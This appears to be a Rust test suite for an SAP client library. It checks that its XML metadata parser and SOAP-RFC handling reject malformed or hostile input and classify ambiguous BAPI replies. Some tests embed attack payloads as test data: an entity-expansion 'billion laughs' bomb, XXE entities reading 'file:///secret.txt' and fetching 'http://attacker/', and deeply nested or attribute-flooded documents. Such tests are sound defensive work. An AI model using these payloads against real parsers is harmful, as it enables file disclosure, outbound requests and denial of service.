//! XML that is damaged or hostile: metadata, envelopes of SOAP-RFC, and what a BAPI leaves unsaid.

use carbide::sandbox;
use carbide::sap::bapi::statistical_key_figure;
use carbide::sap::error::{Outcome, SapError};
use carbide::sap::odata::metadata::Metadata;
use carbide::sap::rfc::{Call, Reply, refuse_errors};
use carbide::source::sap::PLANNED_ORDERS;

use crate::bad_inputs::{accepted, answered};
use crate::hostile_sap::{Hostile, said};

const SOAP: &str = "http://schemas.xmlsoap.org/soap/envelope/";
const BAPI: &str = "BAPI_ACC_DOCUMENT_POST";

fn refusal(document: impl AsRef<[u8]>) -> String {
    Metadata::parse(document.as_ref()).unwrap_err()
}

/// An envelope with the answer of a function module.
fn envelope(of_soap: &str, answer: &str) -> String {
    format!(
        "<e:Envelope xmlns:e=\"{of_soap}\"><e:Body><n:{BAPI}.Response \
         xmlns:n=\"urn:sap-com:document:sap:rfc:functions\">{answer}</n:{BAPI}.Response></e:Body>\
         </e:Envelope>"
    )
}

async fn called(status: u16, body: String) -> Result<Reply, SapError> {
    let hostile = Hostile::new(move |_, _| said(status, "text/xml", body.clone())).await;
    hostile.rfc().call(&Call::new(BAPI)).await
}

#[test]
fn xml_01_entities_that_multiply() {
    let laughs = "<?xml version=\"1.0\"?>\n<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">\
                  <!ENTITY c \"&b;&b;&b;\">]><l>&c;</l>";
    answered("xml-01", &refusal(laughs));
}

#[test]
fn xml_02_a_file_as_an_entity() {
    let file = "<!DOCTYPE x [<!ENTITY s SYSTEM \"file:///secret.txt\">]><x>&s;</x>";
    answered("xml-02", &refusal(file));
}

#[test]
fn xml_03_an_address_as_an_entity() {
    let address = "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://attacker/\">%p;]><x/>";
    answered("xml-03", &refusal(address));
}

#[test]
fn xml_04_an_entity_that_nobody_defined() {
    answered("xml-04", &refusal("<Edmx>&foo;</Edmx>"));
}

#[test]
fn xml_05_a_character_that_xml_has_not() {
    for character in ["&#x0;", "&#xFFFE;"] {
        answered("xml-05", &refusal(format!("<Edmx>{character}</Edmx>")));
    }
}

#[test]
fn xml_06_an_element_without_end() {
    answered("xml-06", &refusal("<Edmx><Schema>"));
}

#[test]
fn xml_07_a_hundred_thousand_attributes() {
    let many: String = (0..100_000).map(|n| format!(" a{n}=\"1\"")).collect();
    answered("xml-07", &refusal(format!("<Edmx{many}/>")));
}

#[test]
fn xml_08_a_hundred_thousand_levels() {
    answered("xml-08", &refusal(format!("<Edmx>{}", "<a>".repeat(100_000))));
}

#[test]
fn xml_09_another_encoding_than_declared() {
    answered("xml-09", &refusal("<?xml version='1.0' encoding='UTF-16'?><Edmx/>"));
}

#[tokio::test]
async fn xml_10_latin_1() {
    let answer = envelope(SOAP, "<TEXT>Gr#n</TEXT><RETURN/>");
    let mut body = format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{answer}").into_bytes();
    let at = body.iter().position(|byte| *byte == b'#').unwrap();
    body[at] = 0xFC;
    let hostile = Hostile::new(move |_, _| said(200, "text/xml", body.clone())).await;

    let reply = hostile.rfc().call(&Call::new(BAPI)).await.unwrap();

    accepted("xml-10");
    assert_eq!(reply.value("TEXT"), "Gr\u{fc}n");
}

#[tokio::test]
async fn xml_11_an_envelope_of_something_else() {
    let foreign = envelope("urn:not-soap", "<RETURN/>");
    answered("xml-11", &called(200, foreign).await.unwrap_err().to_string());
}

#[tokio::test]
async fn xml_12_a_fault_after_a_post() {
    let fault = format!(
        "<e:Envelope xmlns:e=\"{SOAP}\"><e:Body><e:Fault><faultcode>e:Server</faultcode>\
         <faultstring>TIME_OUT</faultstring></e:Fault></e:Body></e:Envelope>"
    );
    let error = called(500, fault).await.unwrap_err();

    assert_eq!(error.outcome(), Outcome::Unknown);
    answered("xml-12", &error.to_string());
}

#[tokio::test]
async fn xml_13_no_return() {
    let reply = called(200, envelope(SOAP, "<OBJ_KEY>1</OBJ_KEY>")).await.unwrap();
    let error = refuse_errors("SBX", BAPI, &reply).unwrap_err();

    assert_eq!(error.outcome(), Outcome::Unknown);
    answered("xml-13", &error.to_string());
}

#[tokio::test]
async fn xml_14_a_warning_and_no_number() {
    let warning = "<RETURN><item><TYPE>W</TYPE><ID>KI</ID><NUMBER>1</NUMBER></item></RETURN>";
    let reply = called(200, envelope(SOAP, warning)).await.unwrap();
    let error = statistical_key_figure::posted("SBX", &reply).unwrap_err();

    assert_eq!(error.outcome(), Outcome::Unknown);
    answered("xml-14", &error.to_string());
}

#[tokio::test]
async fn xml_15_a_message_of_a_type_that_is_none() {
    let message = "<RETURN><item><TYPE>X</TYPE><ID>F5</ID><NUMBER>1</NUMBER></item></RETURN>";
    let reply = called(200, envelope(SOAP, message)).await.unwrap();
    let error = refuse_errors("SBX", BAPI, &reply).unwrap_err();

    assert_eq!(error.outcome(), Outcome::Refused, "the LUW is rolled back");
    answered("xml-15", &error.to_string());
}

#[tokio::test]
async fn xml_16_a_sign_behind_the_number() {
    let reply = called(200, envelope(SOAP, "<AMOUNT>123.45-</AMOUNT><RETURN/>")).await.unwrap();

    accepted("xml-16");
    assert_eq!(reply.decimal("AMOUNT").unwrap().to_string(), "-123.45");
}

#[test]
fn xml_17_a_type_that_nobody_reads() {
    let ours = sandbox::edmx(PLANNED_ORDERS.path).unwrap();
    let place = "<Property Name=\"Place\" Type=\"Edm.GeographyPoint\"/></EntityType>";
    let live = Metadata::parse(ours.replacen("</EntityType>", place, 1).as_bytes()).unwrap();
    let differences = Metadata::parse(ours.as_bytes()).unwrap().compare(&live);

    assert_eq!(differences.len(), 1, "{differences:?}");
    assert!(!differences[0].refuses_start());
    answered("xml-17", &differences[0].said_of("API_PLANNED_ORDERS"));
}

#[test]
fn xml_18_a_property_that_is_not_offered() {
    let ours = sandbox::edmx(PLANNED_ORDERS.path).unwrap();
    let other = ours.replace("Name=\"TotalQuantity\"", "Name=\"TotlQuantity\"");
    let live = Metadata::parse(other.as_bytes()).unwrap();
    let differences = Metadata::parse(ours.as_bytes()).unwrap().compare(&live);

    assert!(differences[0].refuses_start());
    answered("xml-18", &differences[0].said_of("API_PLANNED_ORDERS"));
}
